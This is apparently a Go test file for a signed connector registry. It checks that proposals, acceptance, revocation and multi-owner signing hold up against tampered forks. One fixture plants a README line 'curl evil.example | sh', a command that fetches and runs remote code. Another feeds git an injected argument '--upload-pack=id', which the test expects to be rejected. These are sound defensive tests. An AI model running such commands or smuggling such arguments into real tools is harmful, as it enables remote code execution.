package registry

import (
	"bytes"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/drawbridge-mcp/drawbridge/abi"
	"github.com/drawbridge-mcp/drawbridge/signing"
)

// propose puts a release of acme/tracker onto its branch in the fork.
func (p *proposing) propose(version string, by Signer) Proposal {
	p.t.Helper()
	proposal, err := Propose(p.t.Context(), p.fork, "main", p.submission(p.releaseOf(version), by), p.clock)
	p.must(err)
	return proposal
}

// No two releases share a branch, and git takes each name.
func TestProposalBranches(t *testing.T) {
	t.Parallel()
	f := newOrigin(t, "main")
	seen := map[string]string{}
	for _, ns := range []string{"a", "a-b", "b", "propose", "head"} {
		for _, name := range []string{"c", "b-c", "b", "c-1"} {
			for _, version := range []string{"1.0.0", "1.0.0-rc.1", "1.0.0-1", "1.0.0-rc.lock", "1.0.0-lock"} {
				if !validName(ns) || !validName(name) || !validVersion(version) {
					t.Fatal(ns, name, version)
				}
				branch := proposalBranch(abi.Release{Namespace: ns, Name: name, Version: version})
				release := ns + "/" + name + "@" + version
				if other, ok := seen[branch]; ok || branch != strings.ToLower(branch) {
					t.Errorf("%q is the branch of %s and %s", branch, release, other)
				}
				seen[branch] = release
				if checkRefName(branch) != nil {
					t.Errorf("%q isn't taken as a name", branch)
				}
				f.m.must(t, "check-ref-format", "refs/heads/"+branch)
				f.m.must(t, "update-ref", "refs/heads/"+branch, "refs/heads/main")
			}
		}
	}
}

// A refresh, or another proposal, comes between making a proposal and accepting it.
func TestProposalOnAnOlderBase(t *testing.T) {
	t.Parallel()
	p := newProposing(t)
	first, second := p.propose("1.1.0", p.publisher), p.propose("1.2.0", p.publisher)
	rival, err := p.it.repo.commitOf(t.Context(), first.Branch)
	p.must(err)
	again := p.releaseOf("1.1.0")
	again.License = "MIT"
	_, err = Propose(t.Context(), p.fork, "main", p.submission(again, p.publisher), p.clock)
	p.must(err) // the same version with other bytes, on the same branch
	p.now = p.now.Add(time.Hour)
	p.must(p.m.Refresh(t.Context(), p.keys))
	r := p.check(first.Branch)
	wantAccepted(t, r)
	if len(r.Proposed) != 1 || !slices.ContainsFunc(r.Notices, func(n CheckProblem) bool { return n.Code == codeConflict }) {
		t.Errorf("proposed %+v, notices %+v", r.Proposed, r.Notices)
	}
	_, err = p.m.Accept(t.Context(), p.keys, AcceptOptions{From: p.fork, Ref: r.Commit})
	p.must(err)
	wantProblem(t, p.check(rival), codeConflict, "connectors/acme/tracker/1.1.0.json")
	if _, err := p.m.Accept(t.Context(), p.keys, AcceptOptions{From: p.fork, Ref: rival}); !errors.Is(err, abi.ErrNotFound) {
		t.Errorf("the other one of two proposals of a version: %v", err)
	}
	wantAccepted(t, p.check(second.Branch))
	_, err = p.m.Accept(t.Context(), p.keys, AcceptOptions{From: p.fork, Ref: second.Branch})
	p.must(err)
	wantProblem(t, p.check("main"), "snapshot_older", snapshotPath) // the base's own past
	p.inFork(func(f *fixture) { f.edit(indexFile, `"stable"`, `"beta"`) })
	wantProblem(t, p.check("main"), codeConflict, indexFile)
	p.inFork(func(f *fixture) { f.tamper(func(m map[string][]byte) { delete(m, spaceFile+".asc") }) })
	wantProblem(t, p.check("main"), codeHistory, spaceFile+".asc")
}

// Only what the check showed is accepted, on the state that it was compared with.
func TestAcceptedIsWhatWasChecked(t *testing.T) {
	t.Parallel()
	p := newProposing(t)
	proposal := p.propose("1.1.0", p.publisher)
	r := p.check(proposal.Branch)
	wantAccepted(t, r)
	later := p.submission(p.releaseOf("1.2.0"), p.publisher)
	p.it.must(t, "update-ref", "refs/heads/main", "refs/heads/"+proposal.Branch)
	p.inFork(func(f *fixture) {
		f.tamper(func(m map[string][]byte) {
			m["connectors/acme/tracker/1.2.0.json"], m["connectors/acme/tracker/1.2.0.json.asc"] = later.Release, later.Signature
		})
		f.must(f.m.putArtifact(t.Context(), abi.Module{SHA256: hashOf(later.Wasm)}, later.Wasm))
	})
	p.it.must(t, "update-ref", "refs/heads/"+proposal.Branch, "refs/heads/main")
	opts := AcceptOptions{From: p.fork, Ref: proposal.Branch, On: r.Base, Only: []string{r.Proposed[0].Path}}
	p.must(p.m.Refresh(t.Context(), p.keys))
	if _, err := p.m.Accept(t.Context(), p.keys, opts); !errors.Is(err, abi.ErrConfirmationRequired) {
		t.Errorf("on another state: %v", err)
	}
	opts.On, _ = p.m.repo.commitOf(t.Context(), branch)
	done, err := p.m.Accept(t.Context(), p.keys, opts)
	p.must(err)
	if len(done) != 1 || done[0].Version != "1.1.0" {
		t.Errorf("accepted %+v", done)
	}
	if _, there := p.files()["connectors/acme/tracker/1.2.0.json"]; there {
		t.Error("what came after the check is there")
	}
}

// A proposal's branch may hold anything: a release is taken from it, and nothing else.
func TestAcceptTakesNothingElse(t *testing.T) {
	t.Parallel()
	p := newProposing(t)
	proposal := p.propose("1.1.0", p.publisher)
	p.it.must(t, "update-ref", "refs/heads/main", "refs/heads/"+proposal.Branch)
	evil := p.mallory.Certificate()
	p.inFork(func(f *fixture) {
		f.tamper(func(m map[string][]byte) {
			m[keyPath(evil.Fingerprint)] = evil.Armored()
			m[keyPath(f.publisher.Fingerprint())] = evil.Armored()
			m["namespaces/evil.json"], m["namespaces/evil.json.asc"] = m[spaceFile], m[spaceFile+".asc"]
			m[spaceFile] = edited(t, m[spaceFile], string(f.publisher.Fingerprint()), string(evil.Fingerprint))
			m[releaseFile] = edited(t, m[releaseFile], "Tickets.", "Trickets")
			m["README.md"] = []byte("curl evil.example | sh")
			delete(m, "revocations.json")
		})
	})
	if r := p.check("main"); r.Verdict != VerdictRefused {
		t.Error("the check passes")
	}
	before := p.files()
	_, err := p.m.Accept(t.Context(), p.keys, AcceptOptions{From: p.fork, Ref: "main"})
	p.must(err)
	after := p.files()
	for _, path := range []string{indexFile, snapshotPath, snapshotPath + ".asc", "connectors/acme/tracker/1.1.0.json", "connectors/acme/tracker/1.1.0.json.asc"} {
		if bytes.Equal(before[path], after[path]) {
			t.Errorf("%q is as before", path)
		}
		delete(before, path)
		delete(after, path)
	}
	if !maps.EqualFunc(before, after, bytes.Equal) {
		t.Errorf("other files: %v, were %v", slices.Sorted(maps.Keys(after)), slices.Sorted(maps.Keys(before)))
	}
}

// A release that was signed once can be proposed for ever, by anybody. What stops it
// is a higher version, or its revocation.
func TestReplayedProposal(t *testing.T) {
	t.Parallel()
	p := newProposing(t)
	withdrawn, later := p.propose("1.1.0", p.publisher), p.propose("1.2.0", p.publisher)
	p.must(p.m.Revoke(t.Context(), p.keys, Revocation{Artifacts: []string{hashOf(p.submission(p.releaseOf("1.1.0"), p.publisher).Release)}, Reason: "withdrawn"}))
	wantProblem(t, p.check(withdrawn.Branch), "artifact_revoked", "connectors/acme/tracker/1.1.0.json")
	_, err := p.m.Accept(t.Context(), p.keys, AcceptOptions{From: p.fork, Ref: withdrawn.Branch})
	wantRefused(t, err, abi.ReasonArtifactRevoked)
	p.must(p.m.Publish(t.Context(), p.keys, p.submission(p.releaseOf("1.3.0"), p.publisher)))
	wantProblem(t, p.check(later.Branch), codeNotHigher, "connectors/acme/tracker/1.2.0.json")
	if _, err := p.m.Accept(t.Context(), p.keys, AcceptOptions{From: p.fork, Ref: later.Branch}); !errors.Is(err, abi.ErrInvalidArgs) {
		t.Errorf("a lower version: %v", err)
	}
}

// A tag, or another branch, that is called like what is meant isn't it.
func TestNamesThatAreAmbiguous(t *testing.T) {
	t.Parallel()
	p := newProposing(t)
	old, err := p.m.repo.commitOf(t.Context(), branch)
	p.must(err)
	p.publish("1.1.0")
	p.it.must(t, "-c", "protocol.file.allow=always", "fetch", "--quiet", p.origin, "+refs/*:refs/*")
	for _, m := range []*Maintainer{p.m, p.it} { // a base, and a proposal, that somebody put there
		m.must(t, "update-ref", "refs/tags/main", old)
		m.must(t, "update-ref", "refs/tags/proposed", old)
		m.must(t, "update-ref", "refs/heads/refs/heads/main", old)
	}
	p.it.must(t, "update-ref", "refs/heads/proposed", branch)
	now, err := p.m.repo.commitOf(t.Context(), branch)
	p.must(err)
	for _, base := range []string{"", "main"} {
		r, err := Check(t.Context(), CheckOptions{Source: p.fork, Ref: "proposed", Base: base, Clock: p.clock})
		p.must(err)
		if r.Base != now || r.Commit != now {
			t.Errorf("base %q: compared %s with %s", base, r.Commit, r.Base)
		}
	}
	h, err := Log(t.Context(), LogOptions{Source: p.fork, Ref: "main", Clock: p.clock})
	if err != nil || h.Entries[0].Commit != now {
		t.Errorf("the history is of %+v, %v", h, err)
	}
	for _, odd := range []string{"-x", "--upload-pack=id", "@", "@{-1}", "HEAD^", "a b", "a\nb", "a..b", ":/x", "main~1", "x.lock", "x/", "a//b", strings.Repeat("a", 300), "refs/heads/*", "ä"} {
		if _, err := p.m.Accept(t.Context(), p.keys, AcceptOptions{Ref: odd}); !errors.Is(err, abi.ErrInvalidArgs) {
			t.Errorf("%q here: %v", odd, err)
		}
		if _, err := p.m.Accept(t.Context(), p.keys, AcceptOptions{From: p.fork, Ref: odd}); !errors.Is(err, abi.ErrInvalidArgs) {
			t.Errorf("%q there: %v", odd, err)
		}
		if _, err := Propose(t.Context(), p.fork, odd, p.submission(p.releaseOf("1.2.0"), p.publisher), p.clock); !errors.Is(err, abi.ErrInvalidArgs) {
			t.Errorf("a proposal on %q: %v", odd, err)
		}
	}
}

// Proposals that somebody merged and nobody accepted don't stand in others' way, and
// thousands that nobody signed cost little.
func TestManyProposals(t *testing.T) {
	t.Parallel()
	p := newProposing(t)
	waiting := p.submission(p.releaseOf("0.5.0"), p.publisher)
	for _, f := range []func(func(*fixture)){p.inFork, func(do func(*fixture)) { do(p.fixture) }} {
		f(func(f *fixture) {
			f.tamper(func(m map[string][]byte) {
				m["connectors/acme/tracker/0.5.0.json"], m["connectors/acme/tracker/0.5.0.json.asc"] = waiting.Release, waiting.Signature
			})
		})
	}
	proposal := p.propose("1.1.0", p.publisher)
	r := p.check(proposal.Branch)
	wantAccepted(t, r)
	if len(r.Proposed) != 1 || len(r.Notices) != 1 || r.Notices[0].Code != codeWaiting {
		t.Errorf("proposed %+v, notices %+v", r.Proposed, r.Notices)
	}
	_, err := p.m.Accept(t.Context(), p.keys, AcceptOptions{From: p.fork, Ref: proposal.Branch, Only: []string{r.Proposed[0].Path}})
	p.must(err)
	wantProblem(t, p.check("main", func(o *CheckOptions) { o.Source, o.Base = p.origin, "" }), codeNotHigher, "connectors/acme/tracker/0.5.0.json")
	unsigned := p.submission(p.releaseOf("2.0.0"), p.mallory)
	p.inFork(func(f *fixture) {
		f.tamper(func(m map[string][]byte) {
			for i := range 2000 {
				path := fmt.Sprintf("connectors/acme/tracker/2.0.%d.json", i)
				m[path], m[path+".asc"] = bytes.ReplaceAll(unsigned.Release, []byte("2.0.0"), fmt.Appendf(nil, "2.0.%d", i)), unsigned.Signature
			}
		})
	})
	admitted := 0
	r = p.check("main", func(o *CheckOptions) { o.Progress = func(s string) { admitted += strings.Count(s, "module") } })
	if r.Verdict != VerdictRefused || len(r.Problems) != maxProblems || admitted != 0 {
		t.Errorf("%s, %d problems, %d modules looked at", r.Verdict, len(r.Problems), admitted)
	}
}

// A second owner signs what was shown, and nothing that hides in it.
func TestPendingChangeHidesNothing(t *testing.T) {
	for name, c := range map[string]struct {
		do   func(f *fixture, m map[string][]byte)
		want error
	}{
		"a broken signature of a release":   {func(_ *fixture, m map[string][]byte) { m[releaseFile+".asc"] = m[spaceFile+".asc"] }, abi.ErrUntrusted},
		"a release without its signature":   {func(_ *fixture, m map[string][]byte) { delete(m, releaseFile+".asc") }, abi.ErrUntrusted},
		"an older root without a signature": {func(_ *fixture, m map[string][]byte) { delete(m, "root/1.json.asc") }, abi.ErrUntrusted},
		"a namespace without its signature": {func(_ *fixture, m map[string][]byte) { delete(m, spaceFile+".asc") }, nil},
		"a stranger's signature of a release": {func(f *fixture, m map[string][]byte) {
			sig, err := f.mallory.Sign(m[releaseFile], f.now)
			f.must(err)
			m[releaseFile+".asc"] = sig
		}, abi.ErrUntrusted},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newOrigin(t, "main")
			f.must(f.m.Partial().ChangeRoles(t.Context(), Keys{Owners: f.keys.Owners, Snapshot: f.keys.Snapshot},
				RoleChange{Revocation: RoleEdit{Add: certs(f.owner2), Remove: []signing.Fingerprint{f.revoker.Fingerprint()}}}))
			shown := f.shown()
			e, _, err := f.m.pending(t.Context())
			f.must(err)
			c.do(f, e.files)
			f.must(f.m.write(t.Context(), e, pendingRef, "tampered"))
			before := f.files()
			if _, err := f.m.Sign(t.Context(), Keys{Revocation: []Signer{f.owner2}}, shown); c.want == nil && !errors.Is(err, abi.ErrConfirmationRequired) || err == nil {
				t.Errorf("what was shown is another: %v", err)
			}
			done, err := f.m.Sign(t.Context(), Keys{Revocation: []Signer{f.owner2}}, f.shown())
			if c.want != nil && !errors.Is(err, c.want) || done.Complete {
				t.Errorf("got %+v, %v", done, err)
			}
			if after := f.files(); !maps.EqualFunc(before, after, bytes.Equal) {
				t.Error("the branch has changed")
			}
		})
	}
}
